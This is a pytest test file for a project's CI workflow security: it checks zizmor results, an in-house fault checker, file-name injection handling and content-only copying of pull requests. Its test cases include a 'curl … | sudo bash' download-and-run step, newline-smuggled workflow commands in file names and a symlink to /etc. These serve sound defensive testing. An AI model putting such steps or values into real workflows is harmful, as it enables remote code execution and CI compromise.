"""The workflows: safe for pull requests from strangers, and what they run exists."""

from __future__ import annotations

import io
import re
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest
import yaml

from disclosure.cli import main
from disclosure.report import is_content, outside
from sites.project import ROOT
from workflows import faults

WORKFLOWS = sorted((ROOT / ".github/workflows").glob("*.yml"))
ACTIONS = ROOT.parent / "shared/badinputs/actions"
GOOD = """\
on: pull_request
permissions: {}
jobs:
  check:
    permissions: {contents: read}
    steps:
      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1
        with: {persist-credentials: false}
      - run: make
"""


def zizmor(*paths: Path) -> tuple[int, str]:
    """Run zizmor at its strictest, without the network."""
    program = Path(sys.executable).with_name("zizmor.exe" if sys.platform == "win32" else "zizmor")
    command: list[str | Path] = [program, "--offline", "--persona=auditor", "--format=plain", "--no-progress", *paths]
    done = subprocess.run(command, check=False, capture_output=True, encoding="utf-8")
    return done.returncode, done.stdout + done.stderr


def test_zizmor_finds_nothing() -> None:
    """Zizmor 以最严的标准检查，一处也没有。"""
    code, said = zizmor(*WORKFLOWS)
    assert (code, "No findings to report" in said) == (0, True), said


@pytest.mark.parametrize("path", WORKFLOWS, ids=[path.stem for path in WORKFLOWS])
def test_own_check_finds_nothing(path: Path) -> None:
    """我们自己的检查也没有问题。"""
    assert faults(path.read_text(encoding="utf-8")) == []


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        ("", "", []),
        ("pull_request", "pull_request_target", ["event pull_request_target"]),
        ("pull_request", "{workflow_run: {workflows: [x]}}", ["event workflow_run"]),
        ("permissions: {}", "name: x", ["the workflow does not begin with permissions: {}"]),
        ("permissions: {}", "permissions: write-all", ["the workflow does not begin with permissions: {}"]),
        ("{contents: read}", "write-all", ["check: no permissions of its own"]),
        (
            "{contents: read}",
            "{contents: write}",
            ["check: contents: write", "check: takes code out where it may write"],
        ),
        ("@3d3c42e5aac5ba805825da76410c181273ba90b1", "@v7", ["check: actions/checkout@v7 is not pinned"]),
        ("{persist-credentials: false}", "{}", ["check: the checkout keeps its key"]),
        ("run: make", "run: curl -s https://e.example/x | sudo bash", ["check: runs what it downloads"]),
        ("run: make", "run: 'echo ${{ github.event.pull_request.title }}'", ["check: an expression in a script"]),
        ("steps:", "secrets: inherit\n    steps:", ["check: hands secrets on"]),
    ],
    ids=[
        "好的",
        "target",
        "workflow_run",
        "没写权限",
        "全部权限",
        "一个任务全部权限",
        "写权限",
        "没有锁定",
        "留下钥匙",
        "下载就运行",
        "标题进脚本",
        "转交秘密",
    ],
)
def test_every_fault_is_found(old: str, new: str, expected: list[str]) -> None:
    """坏的写法，一种一句，逐字相同。"""
    text = GOOD.replace(old, new) if old else GOOD
    assert faults(text) == expected
    assert (text != GOOD) == bool(expected)


@pytest.mark.skipif(not ACTIONS.is_dir(), reason="没有 ../shared/badinputs")
def test_bad_workflows_are_all_found() -> None:
    """收集来的坏例子：坏的工作流各被指出，改动程序的补丁认得出不是内容，文件名里的换行印不成一行命令。"""
    for path in sorted(ACTIONS.glob("*.yml")):
        text = path.read_text(encoding="utf-8")
        if "jobs:" in text:
            assert faults(text) or zizmor(path)[0], path.name
    for path in sorted(ACTIONS.glob("*.patch")):
        names = re.findall(r"^\+\+\+ b/(.*)$", path.read_text(encoding="utf-8"), re.MULTILINE)
        assert names
        assert outside(names) == sorted(names), path.name
    with tarfile.open(fileobj=io.BytesIO((ACTIONS / "filename-newline.tar").read_bytes())) as file:
        (name,) = file.getnames()
    assert "\n" in name


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("catalogue/czj/policy/2026-00001.yml", True),
        ("catalogue/czj/files/表.xlsx", True),
        ("content/about.md", True),
        ("catalogue/vocabulary/site.yml", False),
        ("catalogue/.schema/policy.json", False),
        ("catalogue/czj/.gitattributes", False),
        ("catalogue/README.md", False),
        ("catalogue/czj/hooks/x.py", False),
        ("content/../mkdocs.yml", False),
        ("mkdocs.yml", False),
        (".gitattributes", False),
        (".gitmodules", False),
        ("requirements.txt", False),
        ("overrides/main.html", False),
        ("content", False),
    ],
)
def test_content_and_program_are_told_apart(path: str, expected: bool) -> None:  # noqa: FBT001
    """条目、附件、手写页面是内容，别的都不是。"""
    assert is_content(path) is expected


def test_names_of_strangers_are_one_line_each(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """改动的文件名不论写成什么样，印出来都是一行，不会变成命令。"""
    names = ["content/a\n::set-output name=x::y.yml", "x\n::error::假\x1b[31m", "catalogue/czj/policy/1.yml"]
    (tmp_path / "names").write_bytes("\0".join(names).encode())
    command = ["scope", "--root", str(ROOT), "--names", str(tmp_path / "names")]
    assert main(command) == 1
    assert capsys.readouterr().out.splitlines()[1:] == ["- x\\u000a::error::假\\u001b[31m"]
    (tmp_path / "names").write_bytes(b"catalogue/czj/policy/1.yml\0content/about.md\0")
    assert main(command) == 0
    assert capsys.readouterr().out == "改动了 2 个文件，都是条目、附件和手写页面。\n"


def test_what_workflows_run_exists() -> None:
    """工作流里运行的本项目的命令，都真的有。"""
    said = "\n".join(path.read_text(encoding="utf-8") for path in WORKFLOWS)
    commands = set(re.findall(r"python3 hooks (\w+)", said))
    assert {"check", "report", "build", "scope"} <= commands
    for command in commands:
        with pytest.raises(SystemExit) as caught:
            main([command, "--help"])
        assert caught.value.code == 0
    assert "bash .ci/run" in said
    for path in WORKFLOWS:
        assert yaml.safe_load(path.read_text(encoding="utf-8"))["jobs"]


def test_only_content_is_taken(tmp_path: Path) -> None:
    """换上送来的内容：词表、编辑器补全、程序都还是正式版本的；链接照链接拿来，由检查拒绝。"""
    here, there = tmp_path / "here", tmp_path / "there"
    for root in (here, there):
        for name in ("catalogue/vocabulary/site.yml", "catalogue/.schema/a.json", "catalogue/README.md", "mkdocs.yml"):
            (root / name).parent.mkdir(parents=True, exist_ok=True)
            (root / name).write_text(root.name, encoding="utf-8")
        (root / "content").mkdir()
    (here / ".ci").mkdir()
    (here / ".ci/take").write_bytes((ROOT / ".ci/take").read_bytes())
    for root, name in ((here, "old"), (there, "new")):
        (root / f"catalogue/{name}/policy").mkdir(parents=True)
        (root / f"catalogue/{name}/policy/1 号.yml").write_text(name, encoding="utf-8")
        (root / f"content/{name}.md").write_text(name, encoding="utf-8")
    (there / "catalogue/link").symlink_to("/etc")
    subprocess.run(["bash", here / ".ci/take", there], check=True)
    assert (here / "catalogue/link").is_symlink()
    (here / "catalogue/link").unlink()
    found = {
        path.relative_to(here).as_posix(): path.read_text(encoding="utf-8")
        for path in here.rglob("*")
        if path.is_file() and path.parent.name != ".ci"
    }
    assert found == {
        "catalogue/vocabulary/site.yml": "here",
        "catalogue/.schema/a.json": "here",
        "catalogue/README.md": "here",
        "catalogue/new/policy/1 号.yml": "new",
        "content/new.md": "new",
        "mkdocs.yml": "here",
    }


@pytest.mark.parametrize("name", [".gitlab-ci.yml", ".workflow/check.yml"])
def test_other_services_do_the_same(name: str) -> None:
    """GitLab 和 Gitee 的文件读得懂，写明没有在那里运行过，运行的命令都真的有，次序与 GitHub 的一样。"""
    text = (ROOT / name).read_text(encoding="utf-8")
    assert isinstance(yaml.safe_load(text), dict)
    assert "没有在" in text.splitlines()[0] + text.splitlines()[1]
    steps = ["hooks scope", ".ci/take", "hooks report", "hooks check", "hooks build"]
    places = [text.index(step) for step in steps]
    assert places == sorted(places)
